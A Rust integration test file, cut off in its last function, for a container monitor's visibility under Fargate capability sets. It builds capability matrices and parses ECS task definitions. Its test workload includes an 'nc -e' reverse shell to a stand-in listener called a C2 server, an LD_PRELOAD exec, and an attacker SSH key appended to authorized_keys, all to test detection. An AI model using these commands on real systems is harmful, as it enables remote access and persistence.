//! What the monitor sees under the capabilities Fargate really gives (issue 16): a non-root app
//! container (an image with `USER app`, uid 1000, home 0700) watched by a monitor that runs as
//! uid 0 with exactly a given capability set, not with every capability of the test process.
//!
//! - The capability sets themselves: Docker's (and containerd's) default set, which is
//!   Fargate's, the ECS `KernelCapabilities` add/drop semantics, and the sidecar set of every
//!   shipped task definition, read from `task-definitions/*.json` (so this file and the task
//!   definitions cannot drift apart). See `tests/support/src/caps.rs`.
//! - The monitor runs with exactly the set it is given (supervisor and worker).
//! - The capability matrix: the same workload (three execs, one a reverse shell with its stdin
//!   on a TCP socket and one with `LD_PRELOAD` in its environment; two outbound connections;
//!   three file writes, one in the app user's 0700 home) watched with `--emit events` by a
//!   monitor with every capability, with Fargate's default set, with the default set plus
//!   `SYS_PTRACE`, and with each distinct sidecar set of the shipped task definitions (in poll
//!   and in trace mode). The matrix is printed (stderr) and written to
//!   `target/fargate-caps-matrix.md`. Asserted: every row sees what the row with every
//!   capability sees, or the monitor reported the loss with a `visibility_degraded` event for
//!   the app container whose `unreadable` argument names each missing facet.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::Value;
use support::caps::{CAP_NAMES, DOCKER_DEFAULT, shipped_sidecar_sets};
use support::{
    CapSet, Container, ContainerProcess, ContainerSpec, EmulatedTask, Monitor, MonitorSpec,
    ProcCaps, TaskDefinition, User, evt_arg, spawn_ready, unique_duration,
};

fn set(names: &[&str]) -> CapSet {
    CapSet::from_names(names).expect("known capability names")
}

#[test]
fn the_default_set_is_the_fourteen_capabilities_of_docker_and_containerd() {
    let default = CapSet::docker_default();
    assert_eq!(
        default,
        set(&[
            "CHOWN",
            "DAC_OVERRIDE",
            "FSETID",
            "FOWNER",
            "MKNOD",
            "NET_RAW",
            "SETGID",
            "SETUID",
            "SETFCAP",
            "SETPCAP",
            "NET_BIND_SERVICE",
            "SYS_CHROOT",
            "KILL",
            "AUDIT_WRITE",
        ])
    );
    assert_eq!(default.names().len(), DOCKER_DEFAULT.len());
    // The bits are the kernel's (linux/capability.h).
    assert_eq!(set(&["CHOWN"]).0, 1 << 0);
    assert_eq!(set(&["cap_sys_ptrace"]).0, 1 << 19);
    assert_eq!(set(&["AUDIT_WRITE"]).0, 1 << 29);
    assert_eq!(set(&["CHECKPOINT_RESTORE"]).0, 1 << 40);
    assert_eq!(CAP_NAMES.len(), 41);
    // Not in the default set: what a monitor would need to read other users' /proc entries
    // and private directories.
    for missing in ["SYS_PTRACE", "DAC_READ_SEARCH", "SYS_ADMIN"] {
        assert!(!default.contains(missing), "{missing}");
    }
    assert!(CapSet::from_names(&["NOT_A_CAP"]).is_err());
    assert_eq!(
        set(&["KILL", "CHOWN"]).setpriv_bounding_set(),
        "-all,+chown,+kill"
    );
    assert_eq!(CapSet::empty().setpriv_bounding_set(), "-all");
}

#[test]
fn kernel_capabilities_drop_then_add_as_the_ecs_api_says() {
    let default = CapSet::docker_default();
    let none: [&str; 0] = [];
    let caps = |add: &[&str], drop: &[&str]| {
        CapSet::from_kernel_capabilities(add, drop).expect("valid lists")
    };
    // Both empty: the default set.
    assert_eq!(caps(&none, &none), default);
    // Drop, then add.
    assert_eq!(
        caps(&["SYS_PTRACE"], &["NET_RAW", "MKNOD"]),
        default
            .without("NET_RAW")
            .and_then(|s| s.without("MKNOD"))
            .and_then(|s| s.with("SYS_PTRACE"))
            .expect("names")
    );
    // A capability both dropped and added ends up present (the add comes last).
    assert_eq!(caps(&["KILL"], &["KILL"]), default);
    // `ALL` in drop: only the adds.
    assert_eq!(caps(&["SYS_PTRACE"], &["ALL"]), set(&["SYS_PTRACE"]));
    assert_eq!(caps(&none, &["ALL"]), CapSet::empty());
    // `ALL` in add: the default set without the drops (the ECS text).
    assert_eq!(
        caps(&["ALL"], &["CHOWN"]),
        default.without("CHOWN").expect("name")
    );
    // Fargate only accepts SYS_PTRACE in add.
    assert!(CapSet::from_fargate_kernel_capabilities(&["SYS_PTRACE"], &["ALL"]).is_ok());
    assert!(CapSet::from_fargate_kernel_capabilities(&["NET_ADMIN"], &none).is_err());
    assert!(CapSet::from_fargate_kernel_capabilities(&["ALL"], &none).is_err());
}

#[test]
fn the_sidecar_set_is_read_from_each_shipped_task_definition() {
    let definitions = TaskDefinition::shipped().expect("task-definitions/*.json");
    assert!(!definitions.is_empty());
    for definition in &definitions {
        let name = definition.sidecar_name().expect("a sidecar");
        assert!(
            definition.container_names().len() >= 2,
            "{}: a sidecar next to an app",
            definition.file_name()
        );
        let caps = definition.sidecar_caps().expect("the sidecar's set");
        eprintln!("{}: sidecar `{name}` gets {caps}", definition.file_name());
        // Every other container of a shipped definition gets a set Fargate accepts, too.
        for other in definition.container_names() {
            definition
                .container_caps(&other)
                .unwrap_or_else(|e| panic!("{}: {other}: {e:#}", definition.file_name()));
        }
    }
    let sets = shipped_sidecar_sets().expect("distinct sets");
    let files: usize = sets.iter().map(|(_, files)| files.len()).sum();
    assert_eq!(files, definitions.len(), "every file is in one group");

    // The parser on a definition of its own: the sidecar is found by name or by image.
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("def.json");
    std::fs::write(
        &path,
        r#"{"family":"x","containerDefinitions":[
            {"name":"app","image":"example/app:1"},
            {"name":"monitor","image":"example/tasksentry:1",
             "linuxParameters":{"capabilities":{"add":["SYS_PTRACE"],"drop":["NET_RAW"]}}}]}"#,
    )
    .expect("writing a definition");
    let definition = TaskDefinition::read(&path).expect("parsing it");
    assert_eq!(definition.sidecar_name().expect("by image"), "monitor");
    assert_eq!(
        definition.sidecar_caps().expect("caps"),
        CapSet::docker_default()
            .without("NET_RAW")
            .and_then(|s| s.with("SYS_PTRACE"))
            .expect("names")
    );
    assert_eq!(
        definition.container_caps("app").expect("caps"),
        CapSet::docker_default()
    );
}

/// Waits until the monitor runs `tasksentry` (its setup, `/proc` mounted and the capability
/// set applied, is done) with a worker child that runs it too, and returns the worker's pid.
fn worker_of(mon: &Monitor) -> i32 {
    let binary = Path::new(env!("CARGO_BIN_EXE_tasksentry"));
    let runs_tasksentry =
        |pid: i32| std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| exe == binary);
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let host_pid = u32::try_from(mon.host_pid()).expect("a host pid");
        if runs_tasksentry(mon.host_pid()) {
            if let [worker] = support::children_of(host_pid)[..] {
                if runs_tasksentry(worker) {
                    return worker;
                }
            }
        }
        assert!(
            Instant::now() < deadline,
            "the monitor never started its worker; stderr:\n{}",
            mon.stderr_so_far()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn the_monitor_runs_with_exactly_the_capability_set_it_is_given() {
    let mut sets: Vec<(String, CapSet)> = shipped_sidecar_sets()
        .expect("shipped sets")
        .into_iter()
        .map(|(caps, files)| (files.join(", "), caps))
        .collect();
    sets.push(("Fargate default".into(), CapSet::fargate_default()));
    for (label, caps) in sets {
        let task = EmulatedTask::new().expect("task");
        let mon = task
            .start_monitor_with(
                MonitorSpec::new(&["run", "--emit", "events"]).with_capabilities(caps),
            )
            .expect("starting the monitor");
        let worker = worker_of(&mon);
        let expected = ProcCaps {
            inheritable: CapSet::empty(),
            permitted: caps,
            effective: caps,
            bounding: caps,
            ambient: CapSet::empty(),
        };
        for (who, pid) in [("supervisor", mon.host_pid()), ("worker", worker)] {
            assert_eq!(
                ProcCaps::of(pid).expect("reading the capabilities"),
                expected,
                "{label}: the {who}'s capabilities; expected {caps}"
            );
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
            assert!(
                status.lines().any(|l| l == "Uid:\t0\t0\t0\t0"),
                "{label}: the {who} runs as uid 0"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The capability matrix.

/// The "remote" listeners in the task's network namespace (198.51.100.1 is on the task's `lo`,
/// never loopback): the reverse shell's, then the two outbound connections'.
const REVERSE_SHELL_PORT: u16 = 4444;
const CONNECT_PORTS: [u16; 2] = [8001, 8002];

/// Accepts on every given port of 198.51.100.1 and holds every connection open (reading and
/// discarding) until the peer closes it: a reverse shell's listener, a C2 server.
const LISTENER: &str = r#"
import select, socket, sys
listeners = []
for port in sys.argv[1:]:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('198.51.100.1', int(port)))
    s.listen(16)
    listeners.append(s)
print('ready', flush=True)
held = []
while True:
    readable, _, _ = select.select(listeners + held, [], [])
    for s in readable:
        if s in listeners:
            held.append(s.accept()[0])
        elif not s.recv(4096):
            held.remove(s)
            s.close()
"#;

/// The app user, as an image with `USER app` has it.
fn app_user() -> User {
    User::new("app", 1000)
}

/// How one row's monitor runs.
#[derive(Debug, Clone)]
struct RowSpec {
    label: String,
    mode: &'static str,
    caps: Option<CapSet>,
    /// The app container's user (its image's `USER`): `app` (uid 1000) unless the row says.
    app: User,
}

/// What one row's monitor saw of the workload.
#[derive(Debug, Clone, Default)]
struct Seen {
    /// Of the three execs, those reported (an `execve` of that very process).
    execs: usize,
    /// Of those, with `proc.exepath`, `proc.cwd`, an environment (`proc.env`), `proc.stdin`.
    exepath: usize,
    cwd: usize,
    env: usize,
    stdin: usize,
    /// The `LD_PRELOAD` exec reported with `LD_PRELOAD` in its environment (0 or 1).
    ld_preload: usize,
    /// The reverse shell reported with a socket as stdin (0 or 1).
    stdin_socket: usize,
    /// Of the two outbound connections, those reported with their owner process.
    owners: usize,
    /// Of the three written paths, those with a file event; and the events (all kinds).
    file_paths: usize,
    file_events: usize,
    /// Of those paths, the one in the user's 0700 home (0 or 1) and the two others.
    file_paths_home: usize,
    file_paths_shared: usize,
    /// The `unreadable` facets of the monitor's `visibility_degraded` events for the app
    /// container (`None`: no such event).
    degraded: Option<BTreeSet<String>>,
}

/// The comparable part of a row (without the raw file event count, which inotify coalescing
/// can change, and without the degraded report).
fn facets(seen: &Seen) -> BTreeMap<&'static str, usize> {
    BTreeMap::from([
        ("execs", seen.execs),
        ("exepath", seen.exepath),
        ("cwd", seen.cwd),
        ("env", seen.env),
        ("LD_PRELOAD", seen.ld_preload),
        ("stdin", seen.stdin),
        ("stdin socket", seen.stdin_socket),
        ("connection owners", seen.owners),
        ("file paths (0700 home)", seen.file_paths_home),
        ("file paths (/tmp, /var/tmp)", seen.file_paths_shared),
    ])
}

/// The `unreadable` facets of `visibility_degraded` that explain a missing facet of the
/// matrix (any one of them will do); empty for what nothing excuses.
fn excuses(facet: &str) -> &'static [&'static str] {
    match facet {
        "exepath" => &["exe"],
        "cwd" => &["cwd"],
        "env" | "LD_PRELOAD" => &["environ"],
        "stdin" | "stdin socket" => &["fd"],
        "connection owners" => &["fd", "sockets"],
        // A directory the monitor cannot list hides what is below it, nothing else.
        "file paths (0700 home)" => &["root", "private_dirs"],
        "file paths (/tmp, /var/tmp)" => &["root"],
        // The process collector reads `stat` and `cmdline`, which need no capability: an exec
        // it does not report is a failure whatever the capabilities.
        _ => &[],
    }
}

/// Compares a row with the row with every capability: the facets it misses that a
/// `visibility_degraded` report names (`reported`), and those it misses silently
/// (`unexplained`), each as `facet seen/wanted`.
fn judge(seen: &Seen, all: &Seen) -> (Vec<String>, Vec<String>) {
    let reference = facets(all);
    let mut reported = Vec::new();
    let mut unexplained = Vec::new();
    for (facet, value) in facets(seen) {
        let want = reference.get(facet).copied().unwrap_or_default();
        if value >= want {
            continue;
        }
        let named = seen
            .degraded
            .as_ref()
            .is_some_and(|unreadable| excuses(facet).iter().any(|f| unreadable.contains(*f)));
        if named {
            reported.push(format!("{facet} {value}/{want}"));
        } else {
            unexplained.push(format!("{facet} {value}/{want}"));
        }
    }
    (reported, unexplained)
}

/// The workload of one row, started in the app container.
struct Workload {
    /// The `sleep` durations (unique markers) of the reverse shell, the `LD_PRELOAD` exec and
    /// the plain exec.
    reverse_shell: String,
    ld_preload: String,
    plain: String,
    /// The written paths, in the container.
    files: [String; 3],
    /// Processes kept alive until the row is counted.
    _processes: Vec<ContainerProcess>,
}

fn start_workload(app: &Container) -> Workload {
    let uid = app.user().uid;
    let reverse_shell = unique_duration(600);
    let ld_preload = unique_duration(600);
    let plain = unique_duration(600);
    let mut processes = Vec::new();
    let peer = "198.51.100.1";
    // A reverse shell: busybox nc connects, then execs the program with the socket as its
    // stdin and stdout. The program is `sleep` so that it stays, and carries a marker.
    processes.push(
        app.spawn_as(
            uid,
            &[
                "/bin/nc",
                peer,
                &REVERSE_SHELL_PORT.to_string(),
                "-e",
                "/bin/sleep",
                &reverse_shell,
            ],
        )
        .expect("the reverse shell"),
    );
    processes.push(
        app.spawn_as(
            uid,
            &[
                "/bin/env",
                "LD_PRELOAD=/tmp/libhook.so",
                "/bin/sleep",
                &ld_preload,
            ],
        )
        .expect("the LD_PRELOAD exec"),
    );
    processes.push(
        app.spawn_as(uid, &["/bin/sleep", &plain])
            .expect("the plain exec"),
    );
    // Two outbound connections, held open: nc's stdin is a pipe the test keeps open.
    for port in CONNECT_PORTS {
        let mut command = app.command(uid, &["/bin/nc", peer, &port.to_string()]);
        command
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        processes.push(app.spawn_command(command).expect("an outbound connection"));
    }
    let marker = support::random_hex(4);
    let files = [
        format!("{}/.ssh/authorized_keys", app.user().home),
        format!("/tmp/ts-drop-{marker}"),
        format!("/var/tmp/ts-stage-{marker}"),
    ];
    let script = format!(
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@c2' >> {} && \
         echo payload > {} && echo staged > {}",
        files[0], files[1], files[2]
    );
    let output = app
        .run_as(uid, &["/bin/sh", "-c", &script])
        .expect("the file writes");
    assert!(
        output.status.success(),
        "the app user's file writes: {output:?}"
    );
    Workload {
        reverse_shell,
        ld_preload,
        plain,
        files,
        _processes: processes,
    }
}

fn count(events: &[Value], app_id: &str, workload: &Workload) -> Seen {
    let mut seen = Seen::default();
    let execs_of = |marker: &str| -> Vec<&Value> {
        events
            .iter()
            .filter(|e| {
                e["evt"]["type"] == "execve"
                    && e["proc"]["name"] == "sleep"
                    && support::proc_args(e) == [marker]
            })
            .collect()
    };
    let any = |execs: &[&Value], test: &dyn Fn(&Value) -> bool| execs.iter().any(|e| test(e));
    for marker in [
        &workload.reverse_shell,
        &workload.ld_preload,
        &workload.plain,
    ] {
        let execs = execs_of(marker);
        if execs.is_empty() {
            continue;
        }
        seen.execs += 1;
        seen.exepath += usize::from(any(&execs, &|e| e["proc"]["exepath"].is_string()));
        seen.cwd += usize::from(any(&execs, &|e| e["proc"]["cwd"].is_string()));
        seen.env += usize::from(any(&execs, &|e| {
            e["proc"]["env"]
                .as_array()
                .is_some_and(|env| !env.is_empty())
        }));
        seen.stdin += usize::from(any(&execs, &|e| e["proc"]["stdin"]["type"].is_string()));
        if marker == &workload.ld_preload {
            seen.ld_preload = usize::from(any(&execs, &|e| {
                e["proc"]["env"].as_array().is_some_and(|env| {
                    env.iter()
                        .any(|pair| pair[0] == "LD_PRELOAD" && pair[1] == "/tmp/libhook.so")
                })
            }));
        }
        if marker == &workload.reverse_shell {
            seen.stdin_socket = usize::from(any(&execs, &|e| e["proc"]["stdin"]["type"] == "ipv4"));
        }
    }
    for port in CONNECT_PORTS {
        let owned = events.iter().any(|e| {
            e["evt"]["type"] == "connect"
                && e["fd"]["sport"].as_u64() == Some(u64::from(port))
                && e["fd"]["sip"] == "198.51.100.1"
                && e["proc"]["pid"].is_i64()
                && e["container"]["id"] == app_id
        });
        seen.owners += usize::from(owned);
    }
    for (i, path) in workload.files.iter().enumerate() {
        let n = events
            .iter()
            .filter(|e| e["evt"]["collector"] == "fswatch" && e["fd"]["name"] == path.as_str())
            .count();
        seen.file_events += n;
        seen.file_paths += usize::from(n > 0);
        if i == 0 {
            seen.file_paths_home += usize::from(n > 0);
        } else {
            seen.file_paths_shared += usize::from(n > 0);
        }
    }
    for event in events {
        if event["evt"]["type"] == "tasksentry"
            && event["internal"]["kind"] == "visibility_degraded"
            && event["container"]["id"] == app_id
        {
            let facets = seen.degraded.get_or_insert_with(BTreeSet::new);
            for facet in evt_arg(event, "unreadable").unwrap_or_default().split(',') {
                if !facet.trim().is_empty() {
                    facets.insert(facet.trim().to_string());
                }
            }
        }
    }
    seen
}

/// What the row with every capability must see: everything.
fn complete(seen: &Seen) -> bool {
    seen.execs == 3
        && seen.exepath == 3
        && seen.cwd == 3
        && seen.env == 3
        && seen.stdin == 3
        && seen.ld_preload == 1
        && seen.stdin_socket == 1
        && seen.owners == 2
        && seen.file_paths == 3
}

/// Runs one row: a task with the listeners and the app container, the monitor, the workload;
/// returns what the monitor saw and its stderr's tail.
fn run_row(row: &RowSpec) -> (Seen, String) {
    let task = EmulatedTask::new().expect("task");
    let _listener = spawn_ready(
        task.netns_command("/usr/bin/python3")
            .arg("-c")
            .arg(LISTENER)
            .args(
                std::iter::once(REVERSE_SHELL_PORT)
                    .chain(CONNECT_PORTS)
                    .map(|p| p.to_string()),
            ),
        "the listeners",
    );

    let user = row.app.clone();
    let app = task
        .add_container_with(
            "app",
            ContainerSpec::with_users(vec![user.clone()]).with_user(user.clone()),
        )
        .expect("the app container");
    // The image ships the user's ~/.ssh (as an image with `USER app` and ssh keys would).
    let ssh = app.host_path(&format!("{}/.ssh", user.home));
    std::fs::create_dir(&ssh).expect("mkdir ~/.ssh");
    std::os::unix::fs::chown(&ssh, Some(user.uid), Some(user.gid)).expect("chown ~/.ssh");
    std::fs::set_permissions(&ssh, std::os::unix::fs::PermissionsExt::from_mode(0o700))
        .expect("chmod ~/.ssh");

    let mut spec = MonitorSpec::new(&["run", "--emit", "events", "--mode", row.mode]);
    spec.capabilities = row.caps;
    let mon = task.start_monitor_with(spec).expect("starting the monitor");
    mon.wait_until_monitoring(&app, app.user().uid, Duration::from_secs(30))
        .unwrap_or_else(|error| panic!("{error:#}"));
    wait_until_watched_or_degraded(&mon, &app);

    let workload = start_workload(&app);
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut seen = count(&mon.events(), app.id(), &workload);
    while !complete(&seen) && Instant::now() < deadline {
        let _ = mon.wait_for_after(mon.line_count(), |_| true, Duration::from_millis(500));
        seen = count(&mon.events(), app.id(), &workload);
    }
    // A degraded report may follow the data it explains.
    if !complete(&seen) && seen.degraded.is_none() {
        let _ = mon.wait_for(
            |e| e["internal"]["kind"] == "visibility_degraded" && e["container"]["id"] == app.id(),
            Duration::from_secs(5),
        );
        seen = count(&mon.events(), app.id(), &workload);
    }
    let keep = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let file = format!(
        "fargate-caps-{}.ndjson",
        row.label
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
            .collect::<String>()
    );
    let _ = std::fs::write(keep.join(file), mon.lines_so_far().join("\n"));
    let stderr = mon.stderr_so_far();
    let tail: String = {
        let chars: Vec<char> = stderr.chars().collect();
        chars[chars.len().saturating_sub(3000)..].iter().collect()
    };
    (seen, tail)
}

/// Writes probe files into the app container's /tmp from the host until the file collector
/// reports one (the container's watches are placed), the monitor reports the container's
/// root as unreadable (no watches can come), or 20 s pass (a monitor that can neither watch
/// nor say so: the matrix then shows it). A report of other facets does not end the wait:
/// what the monitor can still watch must be watched before the workload runs.
fn wait_until_watched_or_degraded(mon: &Monitor, app: &Container) {
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut round = 0;
    while Instant::now() < deadline {
        round += 1;
        let name = format!("/tmp/ts-ready-{round}");
        let _ = std::fs::write(app.host_path(&name), b"probe\n");
        let found = mon.wait_for(
            |e| {
                (e["evt"]["collector"] == "fswatch" && e["fd"]["name"] == name.as_str())
                    || (e["internal"]["kind"] == "visibility_degraded"
                        && e["container"]["id"] == app.id()
                        && evt_arg(e, "unreadable")
                            .is_some_and(|u| u.split(',').any(|f| f.trim() == "root")))
            },
            Duration::from_millis(500),
        );
        match found {
            Ok(_) => return,
            Err(error) if error.eof => panic!("the monitor exited: {error}"),
            Err(_) => {}
        }
    }
}

fn cell(value: usize, of: usize) -> String {
    format!("{value}/{of}")
}

fn matrix_table(rows: &[(RowSpec, Seen, String)], all: &Seen) -> String {
    let mut table = String::from(
        "| monitor | capabilities | mode | execs seen | with exepath | cwd | env | LD_PRELOAD | stdin (socket) | connections with an owner | file events (paths) | visibility_degraded (unreadable) | verdict |\n\
         |---|---|---|---|---|---|---|---|---|---|---|---|---|\n",
    );
    for (row, seen, verdict) in rows {
        let caps = match row.caps {
            None => "all of the test process".to_string(),
            Some(caps) if caps == CapSet::docker_default() => "Docker's default 14".to_string(),
            Some(caps) if Some(caps) == CapSet::docker_default().with("SYS_PTRACE").ok() => {
                "Docker's default 14 + `SYS_PTRACE`".to_string()
            }
            Some(caps) => format!("`{caps}`"),
        };
        table.push_str(&format!(
            "| {} | {caps} | {} | {} | {} | {} | {} | {} | {} ({}) | {} | {} ({}) | {} | {} |\n",
            row.label,
            row.mode,
            cell(seen.execs, 3),
            seen.exepath,
            seen.cwd,
            seen.env,
            cell(seen.ld_preload, 1),
            seen.stdin,
            seen.stdin_socket,
            cell(seen.owners, 2),
            seen.file_events,
            cell(seen.file_paths, 3),
            seen.degraded.as_ref().map_or_else(
                || "none".to_string(),
                |f| format!("`{}`", f.iter().cloned().collect::<Vec<_>>().join(","))
            ),
            verdict
        ));
    }
    table.push_str(&format!(
        "\nWorkload (app container, `USER app` uid 1000, home 0700): 3 execs (`nc -e` reverse \
         shell with stdin on TCP to 198.51.100.1:{REVERSE_SHELL_PORT}, one with LD_PRELOAD, one plain), 2 \
         outbound TCP connections (198.51.100.1:{}, :{}), 3 file writes (~/.ssh/authorized_keys, \
         /tmp, /var/tmp). Rows compare with the first row ({} file events there).\n",
        CONNECT_PORTS[0], CONNECT_PORTS[1], all.file_events
    ));
    table
}

#[test]
fn capability_matrix_every_fargate_row_sees_what_root_sees_or_says_what_it_cannot() {
    let shipped = shipped_sidecar_sets().expect("the shipped sidecar sets");
    let set = |names: &[&str]| Some(CapSet::from_names(names).expect("capability names"));
    let row = |label: &str, mode: &'static str, caps: Option<CapSet>, app: User| RowSpec {
        label: label.to_string(),
        mode,
        caps,
        app,
    };
    let mut rows = vec![
        row("all (the test suite so far)", "poll", None, app_user()),
        row(
            "Fargate default (no SYS_PTRACE)",
            "poll",
            Some(CapSet::fargate_default()),
            app_user(),
        ),
        row(
            "Fargate default + SYS_PTRACE",
            "poll",
            Some(
                CapSet::fargate_default()
                    .with("SYS_PTRACE")
                    .expect("a name"),
            ),
            app_user(),
        ),
    ];
    for (caps, files) in &shipped {
        for mode in ["poll", "trace"] {
            rows.push(row(
                &format!("sidecar of {}", files.join(", ")),
                mode,
                Some(*caps),
                app_user(),
            ));
        }
    }
    // Which capabilities are needed: the sets in between, each either equal to "all" or
    // degraded with the loss named.
    rows.extend([
        row(
            "drop ALL, add SYS_PTRACE (the examples before 0.2)",
            "poll",
            set(&["SYS_PTRACE"]),
            app_user(),
        ),
        row(
            "DAC_OVERRIDE, SETUID, SETGID (no SYS_PTRACE)",
            "poll",
            set(&["DAC_OVERRIDE", "SETUID", "SETGID"]),
            app_user(),
        ),
        row(
            "SETUID, SETGID",
            "poll",
            set(&["SETUID", "SETGID"]),
            app_user(),
        ),
        row("DAC_OVERRIDE", "poll", set(&["DAC_OVERRIDE"]), app_user()),
        // A root app holds Docker's default capabilities: a reader without SYS_PTRACE must
        // hold at least those.
        row(
            "Fargate default, root app",
            "poll",
            Some(CapSet::fargate_default()),
            User::root(),
        ),
        row(
            "DAC_OVERRIDE, SETUID, SETGID, root app",
            "poll",
            set(&["DAC_OVERRIDE", "SETUID", "SETGID"]),
            User::root(),
        ),
    ]);
    for (caps, files) in &shipped {
        rows.push(row(
            &format!("sidecar of {}, root app", files.join(", ")),
            "poll",
            Some(*caps),
            User::root(),
        ));
    }
    let results: Vec<(Seen, String)> = std::thread::scope(|scope| {
        let handles: Vec<_> = rows
            .iter()
            .map(|row| scope.spawn(move || run_row(row)))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("a row's run"))
            .collect()
    });

    let all = results[0].0.clone();
    let mut failures = Vec::new();
    let mut table_rows = Vec::new();
    for (row, (seen, stderr)) in rows.iter().zip(&results) {
        let (reported, unexplained) = judge(seen, &all);
        let verdict = if unexplained.is_empty() && reported.is_empty() {
            "= all".to_string()
        } else if unexplained.is_empty() {
            format!("degraded, reported: {}", reported.join(", "))
        } else {
            failures.push(format!(
                "[{} {}, caps {}] missing without a visibility_degraded event naming it: {}; \
                 seen {seen:?}\nmonitor stderr (tail):\n{stderr}",
                row.label,
                row.mode,
                row.caps
                    .map_or_else(|| "all".to_string(), |c| c.to_string()),
                unexplained.join(", ")
            ));
            format!("FAIL: {}", unexplained.join(", "))
        };
        table_rows.push((row.clone(), seen.clone(), verdict));
    }
    let table = matrix_table(&table_rows, &all);
    eprintln!("{table}");
    let out = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .parent()
        .map_or_else(|| PathBuf::from("target"), Path::to_path_buf)
        .join("fargate-caps-matrix.md");
    std::fs::write(&out, format!("# Capability matrix\n\n{table}")).expect("writing the matrix");

    assert!(
        complete(&all),
        "with every capability the monitor must see the whole workload: {all:?}\n{}",
        results[0].1
    );
    assert!(
        failures.is_empty(),
        "{} rows miss what the monitor with every capability sees:\n{}\n\n{table}",
        failures.len(),
        failures.join("\n\n")
    );
}

/// The matrix's own logic on events written by hand in the documented format (so that it is
/// known to accept exactly what the visibility contract promises before the monitor emits it).
#[test]
fn the_matrix_excuses_a_missing_facet_only_when_visibility_degraded_names_it() {
    let app = "0123456789abcdef0123456789abcdef-1234567890";
    let workload = Workload {
        reverse_shell: "600.1".into(),
        ld_preload: "600.2".into(),
        plain: "600.3".into(),
        files: [
            "/home/app/.ssh/authorized_keys".into(),
            "/tmp/ts-drop-x".into(),
            "/var/tmp/ts-stage-x".into(),
        ],
        _processes: Vec::new(),
    };
    let exec = |marker: &str, full: bool, env: &[(&str, &str)], stdin: &str| {
        let mut proc = serde_json::json!({"pid": 42, "name": "sleep", "args": [marker]});
        if full {
            proc["exepath"] = "/bin/busybox".into();
            proc["cwd"] = "/".into();
            proc["env"] = serde_json::json!(env);
            proc["stdin"] = serde_json::json!({"type": stdin});
        }
        serde_json::json!({"evt": {"type": "execve", "collector": "procscan"}, "proc": proc,
                           "container": {"id": app}})
    };
    let connect = |port: u16, owned: bool| {
        let mut event = serde_json::json!({"evt": {"type": "connect", "collector": "sockets"},
            "fd": {"sip": "198.51.100.1", "sport": port}, "container": {"id": app}});
        if owned {
            event["proc"] = serde_json::json!({"pid": 43, "name": "nc", "args": []});
        }
        event
    };
    let file = |path: &str| {
        serde_json::json!({"evt": {"type": "creat", "collector": "fswatch"},
                           "fd": {"name": path}, "container": {"id": app}})
    };
    let degraded = |id: &str, unreadable: &str| {
        serde_json::json!({"evt": {"type": "tasksentry", "collector": "procscan",
            "args": [["unreadable", unreadable], ["reason", "r"], ["fix", "f"], ["rules", "A, B"]]},
            "internal": {"kind": "visibility_degraded"}, "container": {"id": id}})
    };
    let path = [("PATH", "/bin")];
    let all_events = vec![
        exec("600.1", true, &path, "ipv4"),
        exec("600.2", true, &[("LD_PRELOAD", "/tmp/libhook.so")], "file"),
        exec("600.3", true, &path, "pipe"),
        connect(CONNECT_PORTS[0], true),
        connect(CONNECT_PORTS[1], true),
        file(&workload.files[0]),
        file(&workload.files[1]),
        file(&workload.files[1]),
        file(&workload.files[2]),
    ];
    let all = count(&all_events, app, &workload);
    assert!(complete(&all), "{all:?}");
    assert_eq!(all.file_events, 4);
    assert_eq!(judge(&all, &all), (vec![], vec![]));

    // A row that reads nothing of the processes, owns no connection and misses the home.
    let partial = vec![
        exec("600.1", false, &[], ""),
        exec("600.2", false, &[], ""),
        exec("600.3", false, &[], ""),
        connect(CONNECT_PORTS[0], false),
        connect(CONNECT_PORTS[1], false),
        file(&workload.files[1]),
        file(&workload.files[2]),
    ];
    let silent = count(&partial, app, &workload);
    let (reported, unexplained) = judge(&silent, &all);
    assert!(reported.is_empty());
    assert_eq!(unexplained.len(), 8, "{unexplained:?}");
    assert!(unexplained.contains(&"file paths (0700 home) 0/1".to_string()));

    // Reported for another container: still silent.
    let mut other = partial.clone();
    other.push(degraded("another", "exe,cwd,environ,fd,private_dirs"));
    assert_eq!(judge(&count(&other, app, &workload), &all).1.len(), 8);

    // Reported, but not every facet named: the unnamed ones fail.
    let mut some = partial.clone();
    some.push(degraded(app, "exe,cwd,environ"));
    let (reported, unexplained) = judge(&count(&some, app, &workload), &all);
    assert_eq!(reported.len(), 4, "{reported:?}");
    assert!(unexplained.iter().any(|u| u.starts_with("stdin ")));
    assert!(
        unexplained
            .iter()
            .any(|u| u.starts_with("connection owners"))
    );
    assert!(unexplained.iter().any(|u| u.starts_with("file paths")));

    // Every missing facet named (owners by `sockets`, files by `private_dirs`): accepted.
    let mut named = partial.clone();
    named.push(degraded(app, "exe,cwd,environ,fd,sockets,private_dirs"));
    let seen = count(&named, app, &workload);
    let (reported, unexplained) = judge(&seen, &all);
    assert!(unexplained.is_empty(), "{unexplained:?}");
    assert_eq!(reported.len(), 8);

    // `private_dirs` excuses the home, not files outside it.
    let mut outside = named.clone();
    outside.retain(|e| e["fd"]["name"] != workload.files[2].as_str());
    let (_, unexplained) = judge(&count(&outside, app, &workload), &all);
    assert_eq!(
        unexplained,
        vec!["file paths (/tmp, /var/tmp) 1/2".to_string()]
    );
    let mut rootless = outside.clone();
    rootless.push(degraded(app, "root"));
    assert!(judge(&count(&rootless, app, &workload), &all).1.is_empty());

    // An exec the process collector did not report is never excused.
    let mut missing_exec = named.clone();
